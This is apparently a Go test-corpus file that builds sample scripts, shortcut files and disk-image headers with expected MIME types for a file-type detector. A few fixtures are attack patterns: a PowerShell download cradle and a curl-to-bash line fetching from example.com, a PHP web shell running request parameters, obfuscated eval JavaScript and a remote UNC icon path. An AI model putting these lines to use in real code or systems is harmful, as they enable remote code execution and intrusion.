package corpus

import (
	"encoding/binary"
	"path/filepath"
	"runtime"
	"strings"
)

// scripts holds what an interpreter of the operating system would run. None
// does anything worse than print.
func scripts() []Sample {
	goroot := runtime.GOROOT()
	const vbs = "Dim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nOn Error Resume Next\r\nshell.Run \"calc\", 0, False\r\n"
	const ps = "$client = New-Object System.Net.WebClient\r\n$path = Join-Path $env:TEMP 'a.txt'\r\nWrite-Host $path\r\n"
	const bat = "@echo off\r\nsetlocal\r\nset DIR=%~dp0\r\nif exist \"%DIR%a.txt\" goto end\r\necho hello > \"%DIR%a.txt\"\r\n:end\r\n"
	const jscript = "var shell = new ActiveXObject(\"WScript.Shell\");\r\nshell.Popup(\"hello\");\r\nWScript.Quit(0);\r\n"
	all := []Sample{
		text(Scripts, "jscript.js", jscript, acceptJS...),
		text(Scripts, "browser.js", "(function () {\n  'use strict';\n  document.getElementById('a').addEventListener('click', function () { alert(1); });\n})();\n", acceptJS...),
		text(Scripts, "node.js", "const fs = require('fs');\nmodule.exports = function (name) {\n  return fs.readFileSync(name);\n};\n", acceptJS...),
		text(Scripts, "shebang.js", "#!/usr/bin/env node\nconsole.log('hi')\n", acceptJS...),
		text(Scripts, "module.mjs", "import { a } from './a.js';\nexport default function b() { return a(); }\n", acceptJS...),
		text(Scripts, "licensed.js", "/*\n"+strings.Repeat(" * Permission is hereby granted, free of charge, to any person.\n", 100)+" */\n"+jscript, acceptJS...),
		text(Scripts, "obfuscated.js", "eval(unescape('%61%6c%65%72%74%28%31%29'));var _0x1a=['\\x68\\x69'];(function(a,b){a.push(a.shift());}(_0x1a,1));", acceptJS...),
		text(Scripts, "utf16.js", utf16Text(jscript, binary.LittleEndian, true), acceptJS...),
		text(Scripts, "encoded.jse", "#@~^DgAAAA==\\ko$K6,J4kJp1QQAAA==^#~@", "application/x-jse", "text/x-jse"),
		text(Scripts, "plain.vbs", vbs, acceptVBS...),
		text(Scripts, "commented.vbs", "' Written by hand\r\n' for the corpus\r\n"+vbs, acceptVBS...),
		text(Scripts, "utf16.vbs", utf16Text(vbs, binary.LittleEndian, true), acceptVBS...),
		text(Scripts, "functions.vbs", "Option Explicit\r\nSub Main()\r\n  Dim i\r\n  If i = 1 Then\r\n    MsgBox \"hi\"\r\n  End If\r\nEnd Sub\r\nMain\r\n", acceptVBS...),
		text(Scripts, "plain.ps1", ps, acceptPS...),
		text(Scripts, "function.ps1", "[CmdletBinding()]\nparam(\n  [string]$Name\n)\nfunction Get-Thing {\n  Write-Output $Name\n}\n", acceptPS...),
		text(Scripts, "cradle.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://example.com/a.txt')", acceptPS...),
		text(Scripts, "utf16.ps1", utf16Text(ps, binary.LittleEndian, true), acceptPS...),
		text(Scripts, "plain.bat", bat, acceptBatch...),
		text(Scripts, "upper.cmd", strings.ToUpper(bat), acceptBatch...),
		text(Scripts, "rem.bat", "REM clean up\r\n@echo off\r\ndel /q \"%TEMP%\\*.tmp\" >nul 2>&1\r\n", acceptBatch...),
		text(Scripts, "plain.sh", "#!/bin/sh\necho hello\n", acceptShell...),
		text(Scripts, "env.sh", "#!/usr/bin/env bash\nset -e\n", acceptShell...),
		text(Scripts, "naked.sh", "set -e\nif [ -f /etc/hosts ]; then\n  curl -s https://example.com/a | bash\nfi\nfor i in 1 2; do\n  echo $i\ndone\n", acceptShell...),
		text(Scripts, "plain.py", "#!/usr/bin/python3\nimport os\nprint(os.name)\n", acceptPython...),
		text(Scripts, "naked.py", "import os\nimport sys\n\nfrom pathlib import Path\n\ndef main():\n    print(Path.cwd())\n\nif __name__ == '__main__':\n    main()\n", acceptPython...),
		text(Scripts, "plain.pl", "#!/usr/bin/perl -w\nuse strict;\nprint \"hi\\n\";\n", acceptPerl...),
		text(Scripts, "naked.pl", "use strict;\nuse warnings;\nmy $a = 1;\nprint $a;\n", acceptPerl...),
		text(Scripts, "plain.rb", "#!/usr/bin/env ruby\nputs 1\n", "text/x-ruby", "application/x-ruby"),
		text(Scripts, "plain.php", "<?php\necho 'hi';\n", acceptPHP...),
		text(Scripts, "mixed.php", "<html><body><?php system($_GET['c']); ?></body></html>", acceptPHP...),
		text(Scripts, "short.php", "<?= `id` ?>", acceptPHP...),
		text(Scripts, "page.asp", "<%@ Language=\"VBScript\" %>\r\n<% Response.Write \"hi\" %>\r\n", "text/x-asp", "application/x-asp"),
		text(Scripts, "page.jsp", "<%@ page import=\"java.util.*\" %>\n<% out.print(1); %>\n", "text/x-jsp", "application/x-jsp"),
		text(Scripts, "app.hta", "<html><head><HTA:APPLICATION ID=\"a\"/><script language=\"VBScript\">MsgBox 1</script></head></html>", "application/hta"),
		text(Scripts, "app-late.hta", "garbage before\n<hta:application id=a />\n<script>new ActiveXObject('WScript.Shell')</script>", "application/hta"),
		text(Scripts, "plain.sct", "<?XML version=\"1.0\"?>\n<scriptlet>\n<registration progid=\"A\" classid=\"{00000000-0000-0000-0000-000000000000}\"/>\n<script language=\"JScript\"><![CDATA[ ]]></script>\n</scriptlet>", "text/scriptlet"),
		text(Scripts, "component.wsc", "<?xml version=\"1.0\"?>\n<component>\n<registration progid=\"A\"/>\n<script language=\"VBScript\"></script>\n</component>", "text/scriptlet"),
		text(Scripts, "job.wsf", "<job id=\"A\">\n<script language=\"VBScript\">\nWScript.Echo 1\n</script>\n</job>", "application/x-wsf"),
		text(Scripts, "console.msc", "<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\" ProgramMode=\"UserSDI\"/>", "application/x-ms-msc"),
		text(Scripts, "keys.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n\"b\"=\"c\"\r\n", "text/x-ms-regedit"),
		text(Scripts, "keys16.reg", utf16Text("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n", binary.LittleEndian, true), "text/x-ms-regedit"),
		text(Scripts, "keys4.reg", "REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n", "text/x-ms-regedit"),
		text(Scripts, "setup.inf", "[Version]\r\nSignature=\"$Windows NT$\"\r\nClass=Printer\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n", "application/x-setupscript", "text/inf"),
		text(Scripts, "build.proj", "<Project xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\"><UsingTask TaskName=\"A\"/></Project>", "text/x-msbuild"),
		text(Scripts, "compiled.scpt", "FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff\xff\xfe", "application/x-applescript"),
	}
	all = appendGlob(all, Scripts, filepath.Join(goroot, "src", "*.bat"), acceptBatch...)
	all = appendGlob(all, Scripts, filepath.Join(goroot, "src", "*.bash"), acceptShell...)
	all = appendGlob(all, Scripts, filepath.Join(goroot, "lib", "wasm", "*.js"), acceptJS...)
	all = appendGlob(all, Scripts, filepath.Join(goroot, "misc", "chrome", "*", "*.js"), acceptJS...)
	return appendGlob(all, Scripts, filepath.Join(goroot, "src/cmd/vendor/github.com/google/pprof/internal/driver/html/*.js"), acceptJS...)
}

// shortcuts holds what makes the system open something else.
func shortcuts() []Sample {
	lnk := "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46\x9B\x00\x08\x00" + strings.Repeat("\x00", 56)
	return []Sample{
		text(Shortcuts, "invoice.lnk", lnk, "application/x-ms-shortcut"),
		text(Shortcuts, "page.url", "[InternetShortcut]\r\nURL=https://example.com/\r\n", "application/x-mswinurl"),
		text(Shortcuts, "site.website", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp4=31,x\r\n[InternetShortcut]\r\nURL=https://example.com/\r\n", "application/x-mswinurl"),
		text(Shortcuts, "show.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\example.com\\a.ico\r\n", "application/x-ms-scf"),
		text(Shortcuts, "app.desktop", "[Desktop Entry]\nType=Application\nName=A\nExec=sh -c id\n", "application/x-desktop"),
		text(Shortcuts, "page.webloc", "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>URL</key><string>https://example.com</string></dict></plist>", "application/x-webloc"),
		text(Shortcuts, "profile.mobileconfig", "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>PayloadContent</key><array/></dict></plist>", "application/x-apple-aspen-config"),
		text(Shortcuts, "open.settingcontent-ms", "<?xml version=\"1.0\"?>\n<PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"/></PCSettings>", "application/x-ms-settingcontent"),
		text(Shortcuts, "files.library-ms", "<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"/>", "application/x-ms-library"),
		text(Shortcuts, "find.searchconnector-ms", "<?xml version=\"1.0\"?>\n<searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"/>", "application/x-ms-search-connector"),
		text(Shortcuts, "app.jnlp", "<?xml version=\"1.0\"?>\n<jnlp spec=\"1.0+\" codebase=\"https://example.com\"/>", "application/x-java-jnlp-file"),
		text(Shortcuts, "app.application", "<?xml version=\"1.0\"?>\n<asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"false\"/></asmv1:assembly>", "application/x-ms-application"),
		text(Shortcuts, "box.wsb", "<Configuration><LogonCommand><Command>calc</Command></LogonCommand></Configuration>", "application/x-ms-sandbox"),
		text(Shortcuts, "server.rdp", "full address:s:example.com\r\nprompt for credentials:i:1\r\n", "application/x-rdp"),
		text(Shortcuts, "query.iqy", "WEB\r\n1\r\nhttps://example.com/a\r\n", "text/x-ms-iqy"),
		text(Shortcuts, "dark.theme", "[Theme]\r\nDisplayName=A\r\n", "application/x-ms-theme"),
	}
}

// diskImages holds headers and trailers at their places.
func diskImages() []Sample {
	at := func(name string, size, offset int, magic string, accept ...string) Sample {
		b := make([]byte, size)
		copy(b[offset:], magic)
		return one(DiskImages, name, b, accept...)
	}
	boot := make([]byte, 4096)
	copy(boot, "\xEB\x3C\x90MSDOS5.0\x00\x02")
	boot[510], boot[511] = 0x55, 0xAA
	return []Sample{
		at("cd.iso", 40<<10, 0x8001, "CD001\x01", "application/x-iso9660-image"),
		at("dvd.udf", 44<<10, 0x8001, "BEA01\x01", "application/x-udf-image", "application/x-iso9660-image", "application/x-udf"),
		at("fixed.vhd", 64<<10, 64<<10-512, "conectix", "application/x-virtualbox-vhd", "application/x-vhd-disk"),
		at("dynamic.vhd", 8<<10, 0, "conectix\x00\x00\x00\x02", "application/x-virtualbox-vhd", "application/x-vhd-disk"),
		at("disk.vhdx", 8<<10, 0, "vhdxfile", "application/x-virtualbox-vhdx", "application/x-vhdx-disk"),
		at("disk.vmdk", 8<<10, 0, "KDMV\x01", "application/x-virtualbox-vmdk", "application/x-vmdk-disk"),
		at("disk.vdi", 8<<10, 0, "<<< Oracle VM VirtualBox Disk Image >>>\n"+strings.Repeat("\x00", 24)+"\x7F\x10\xDA\xBE", "application/x-virtualbox-vdi"),
		at("disk.qcow2", 8<<10, 0, "QFI\xFB\x00\x00\x00\x03", "application/x-qemu-disk"),
		at("app.dmg", 64<<10, 64<<10-512, "koly\x00\x00\x00\x04\x00\x00\x02\x00", "application/x-apple-diskimage"),
		at("system.wim", 8<<10, 0, "MSWIM\x00\x00\x00\xD0", "application/x-ms-wim"),
		one(DiskImages, "floppy.img", boot, "application/x-raw-disk-image", "application/x-dos-boot"),
	}
}
